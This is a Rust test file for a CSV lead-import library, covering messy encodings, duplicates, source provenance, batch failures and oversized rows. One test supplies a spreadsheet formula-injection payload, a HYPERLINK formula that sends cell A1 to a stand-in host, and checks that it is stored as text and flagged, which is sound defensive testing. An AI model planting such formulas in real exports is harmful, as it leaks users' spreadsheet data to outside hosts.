//! Whole files, as they come.

use jooper_leads::{ImportError, Mapping, Target, check_csv};

use crate::support::World;

#[tokio::test]
async fn a_messy_file_is_imported_and_every_bad_row_says_why() {
    let world = World::new();
    let file = "\u{feff}E-Mail;Vorname;Nachname;Firma;Land;Umsatz;\r\n\
        ada@müller.example;Ada;\"Müller; Söhne\";\"Müller \"\"& Co\"\"\";Deutschland;12,5;\r\n\
        \r\n\
        bad address;Bob;;;DE;;\r\n\
        ADA@MÜLLER.example;Ada again;;;;;\r\n\
        info@b.example;;;;Atlantis;;x\r\n\
        eve@b.example;\"Eve\nMaria\";;;US;;;;\r\n\
        short@b.example;x\r\n";
    let report = world.import(file).await;
    assert_eq!((report.rows, report.imported), (6, 3));
    assert_eq!((report.duplicates, report.rejected_rows), (1, 2));
    assert_eq!(report.unnamed_columns, [7]);
    let rejects: Vec<_> = report.rejected.iter().map(|reject| reject.line).collect();
    assert_eq!(rejects, [4, 9]);
    assert_eq!(report.rejected[0].column.as_deref(), Some("E-Mail"));
    assert_eq!(report.duplicate_rows[0].line, 5);
    assert!(
        report
            .remarks
            .iter()
            .any(|r| r.line == 6 && r.column.as_deref() == Some("Land"))
    );

    let ada = &world.all().await[0];
    assert_eq!(ada.email, "ada@xn--mller-kva.example");
    assert_eq!(ada.last_name.as_deref(), Some("Müller; Söhne"));
    assert_eq!(ada.company_name.as_deref(), Some("Müller \"& Co\""));
    assert_eq!(ada.zone.as_deref(), Some("Europe/Berlin"));
    let lead = world.leads.get(world.ws, ada.id).await.unwrap().unwrap();
    assert_eq!(lead.profile.fields["umsatz"], "12,5");
    assert_eq!(
        lead.profile.imported.as_deref(),
        Some("fair.csv, line 2, imported 2026-11-23 09:05 UTC")
    );
    // The name of a file tells nobody where their data came from (GDPR Art. 14(2)(f)).
    assert_eq!(
        (lead.profile.source.as_str(), report.without_source),
        ("", report.rows - report.rejected_rows)
    );
    let fields = world.leads.fields(world.ws).await.unwrap();
    assert!(fields.contains("umsatz") && fields.contains("first_name"));
}

#[tokio::test]
async fn the_source_is_what_the_row_says_then_the_file_then_the_basis() {
    let file = "email,source,basis,basis_source,basis_date,basis_proof,basis_notice\n\
         a@one.example,Fair 2026,,,,,\n\
         b@two.example,,consent,Web form,2026-10-01,form.csv,v2\n\
         c@three.example,,,,,,\n";
    for (mapping, expected, without) in [
        (Mapping::guess(), ["Fair 2026", "Web form", ""], 1),
        (
            Mapping::guess().with_source(" the exhibitors' list\n"),
            ["Fair 2026", "the exhibitors' list", "the exhibitors' list"],
            0,
        ),
    ] {
        let world = World::new();
        let done = world
            .leads
            .import_csv(world.ws, file.as_bytes(), &mapping, "fair.csv");
        let report = done.await.unwrap();
        assert_eq!((report.imported, report.without_source), (3, without));
        let mut sources = Vec::new();
        for lead in world.all().await {
            let lead = world.leads.get(world.ws, lead.id).await.unwrap().unwrap();
            sources.push((lead.profile.email, lead.profile.source));
        }
        sources.sort();
        let sources: Vec<_> = sources.into_iter().map(|(_, source)| source).collect();
        assert_eq!(sources, expected);
    }
}

#[tokio::test]
async fn a_file_imported_again_with_its_source_tells_it_of_those_who_had_none() {
    let file = "email,source\na@one.example,Fair 2026\nb@two.example,\n";
    let world = World::new();
    for (mapping, expected) in [
        (Mapping::guess(), (2, 0, 0)),
        (
            Mapping::guess().with_source("the exhibitors' list"),
            (0, 1, 1),
        ),
        (Mapping::guess().with_source("another list"), (0, 0, 2)),
    ] {
        let done = world
            .leads
            .import_csv(world.ws, file.as_bytes(), &mapping, "fair.csv");
        let report = done.await.unwrap();
        let counts = (report.imported, report.updated, report.duplicates);
        assert_eq!(counts, expected);
    }
    let mut sources = Vec::new();
    for lead in world.all().await {
        let lead = world.leads.get(world.ws, lead.id).await.unwrap().unwrap();
        sources.push(lead.profile.source);
    }
    sources.sort();
    assert_eq!(sources, ["Fair 2026", "the exhibitors' list"]);
}

#[tokio::test]
async fn a_file_that_is_no_csv_file_stores_nothing_and_says_what_to_do() {
    let world = World::new();
    let utf16: Vec<u8> = "email\na@b.example\n"
        .encode_utf16()
        .flat_map(u16::to_le_bytes)
        .collect();
    for (file, part) in [
        (b"".as_slice(), "empty"),
        (&utf16, "UTF-8"),
        (b"PK\x03\x04....", "export it as CSV"),
        (b"name;firm\nx;y\n", "\"name\", \"firm\""),
        (b"email,name,EMAIL\n", "columns 1 and 3"),
        (b"a@b.example,Ada\n", "names of columns"),
        (b"email,n\xfcmber\n", "UTF-8"),
        (b"email,\"name\n", "never closed"),
    ] {
        let error = world.try_import(file).await.unwrap_err();
        let said = error.to_string();
        assert!(said.contains(part), "{said}");
        assert_eq!(error.report().map_or(0, |report| report.imported), 0);
    }
    assert!(world.emails().await.is_empty());
    let mapping = Mapping::guess().column("Postfach", Target::Email);
    let file = b"email\na@b.example\n".as_slice();
    let error = world
        .leads
        .import_csv(world.ws, file, &mapping, "f")
        .await
        .unwrap_err();
    assert!(
        matches!(error, ImportError::UnknownColumn { .. }),
        "{error}"
    );
}

fn many(rows: usize) -> String {
    let mut file = "email,first_name\n".to_owned();
    for n in 0..rows {
        file.push_str(&format!("p{n}@b{}.example,P{n}\n", n % 50));
    }
    file
}

/// How many leads the first commit of a long file stores.
async fn one_batch() -> u64 {
    let error = World::that_commits(1)
        .try_import(many(700).as_bytes())
        .await;
    let stored = error.unwrap_err().report().unwrap().imported;
    assert!((50..700).contains(&stored), "{stored}");
    stored
}

#[tokio::test]
async fn a_file_that_breaks_in_the_middle_keeps_whole_batches_and_names_the_line() {
    let world = World::new();
    let broken = format!("{}x@b.example,\"never closed\ny@b.example,Y\n", many(700));
    let error = world.try_import(broken.as_bytes()).await.unwrap_err();
    assert!(
        matches!(error, ImportError::Broken { line: 702, .. }),
        "{error}"
    );
    let stored = error.report().unwrap().imported;
    let one = one_batch().await;
    assert!(
        (700 - one..=700).contains(&stored) && stored % one == 0,
        "{stored} of {one} each"
    );
    let told = format!("{stored} leads from the lines before");
    assert!(error.to_string().contains(&told), "{error}");
    assert_eq!(world.emails().await.len() as u64, stored);

    let fixed = broken.replace("\"never closed", "closed");
    let report = world.import(&fixed).await;
    assert_eq!((report.imported, report.duplicates), (702 - stored, stored));
    assert_eq!(world.emails().await.len(), 702);
}

#[test]
fn a_look_before_the_import_finds_what_would_break_it() {
    let broken = format!("{}x@b.example,\"never closed\ny@b.example,Y\n", many(700));
    let mapping = Mapping::guess();
    let error = check_csv(broken.as_bytes(), &mapping).unwrap_err();
    assert!(
        matches!(error, ImportError::Broken { line: 702, .. }),
        "{error}"
    );
    assert_eq!(error.report().unwrap().imported, 0);
    let whole = check_csv(many(700).as_bytes(), &mapping);
    assert_eq!(whole.unwrap(), 700);
    assert!(check_csv(&b"Name\nAda\n"[..], &mapping).is_err());
}

#[tokio::test]
async fn a_store_that_fails_keeps_whole_batches_and_the_import_can_be_repeated() {
    let world = World::that_commits(2);
    let error = world.try_import(many(1200).as_bytes()).await.unwrap_err();
    assert!(matches!(error, ImportError::Stopped { .. }), "{error}");
    let stored = error.report().unwrap().imported;
    assert_eq!(stored, 2 * one_batch().await);
    assert_eq!(world.emails().await.len() as u64, stored);
}

/// A header of so many fields, and rows that fill those from one on up to another.
fn wide(columns: usize, filled: &[(usize, usize)]) -> String {
    let header: Vec<String> = (0..columns).map(|n| format!("f{n}")).collect();
    let mut file = format!("email,{}\n", header.join(","));
    for (row, (from, to)) in filled.iter().enumerate() {
        let cell = |n| if (*from..*to).contains(&n) { "x" } else { "" };
        let cells: Vec<&str> = (0..columns).map(cell).collect();
        file.push_str(&format!("p{row}@b.example,{}\n", cells.join(",")));
    }
    file
}

async fn fields(world: &World) -> usize {
    let known = world.leads.fields(world.ws).await.unwrap();
    let ours = |name: &&String| {
        name.strip_prefix('f')
            .is_some_and(|it| it.parse::<u32>().is_ok())
    };
    known.iter().filter(ours).count()
}

#[tokio::test]
async fn the_names_of_fields_are_stored_with_the_leads_that_have_them_or_not_at_all() {
    // More names than one bulk batch holds, in two rows, and a store that is full behind its first.
    let world = World::that_commits(1);
    let file = wide(900, &[(0, 400), (400, 900)]);
    let error = world.try_import(file.as_bytes()).await.unwrap_err();
    assert_eq!(error.report().unwrap().imported, 1);
    assert_eq!((world.emails().await.len(), fields(&world).await), (1, 400));
    // And more in one row: its batch is none of the small ones, but one.
    let world = World::that_commits(0);
    let report = world.import(&wide(900, &[(0, 900)])).await;
    assert_eq!((report.imported, fields(&world).await), (1, 900));
}

#[tokio::test]
async fn oversized_input_is_refused_with_its_line() {
    let world = World::new();
    let wide = format!(
        "email,note\na@b.example,{}\nb@b.example,x\n",
        "x".repeat(40_000)
    );
    let report = world.import(&wide).await;
    assert_eq!((report.imported, report.rejected_rows), (1, 1));
    assert_eq!(report.rejected[0].line, 2);
    let huge = format!("email,note\na@b.example,\"{}\"\n", "x".repeat(50 << 20));
    let error = world.try_import(huge.as_bytes()).await.unwrap_err();
    assert!(
        matches!(error, ImportError::Broken { line: 2, .. }),
        "{error}"
    );
}

#[tokio::test]
async fn formulas_are_kept_as_text_and_remarked() {
    let world = World::new();
    let report = world
        .import("email,note,phone\na@b.example,\"=HYPERLINK(\"\"http://x?\"\"&A1,\"\"ok\"\")\",+49 30\n")
        .await;
    assert_eq!(report.remarks.len(), 1);
    assert_eq!(report.remarks[0].column.as_deref(), Some("note"));
}

/// What a refusal asks for must be a way: the country of somebody is known once a file tells it, and a file that
/// tells another changes nothing.
#[tokio::test]
async fn a_file_imported_again_with_countries_tells_them_of_those_who_had_none() {
    let world = World::new();
    for (file, expected) in [
        (
            "email,country\na@one.example,\nb@two.example,FR\n",
            (2, 0, 0),
        ),
        (
            "email,country\na@one.example,DE\nb@two.example,US\n",
            (0, 1, 1),
        ),
        ("email,country\na@one.example,US\n", (0, 0, 1)),
    ] {
        let report = world.import(file).await;
        let counts = (report.imported, report.updated, report.duplicates);
        assert_eq!(counts, expected, "{file}");
    }
    let mut known: Vec<_> = world.all().await;
    known.sort_by(|one, other| one.email.cmp(&other.email));
    let countries = known.iter().map(|lead| lead.country.map(|c| c.to_string()));
    let expected = ["DE", "FR"].map(|code| Some(code.to_owned()));
    assert_eq!(Vec::from_iter(countries), expected);
    assert_eq!(known[0].zone.as_deref(), Some("Europe/Berlin"));
}
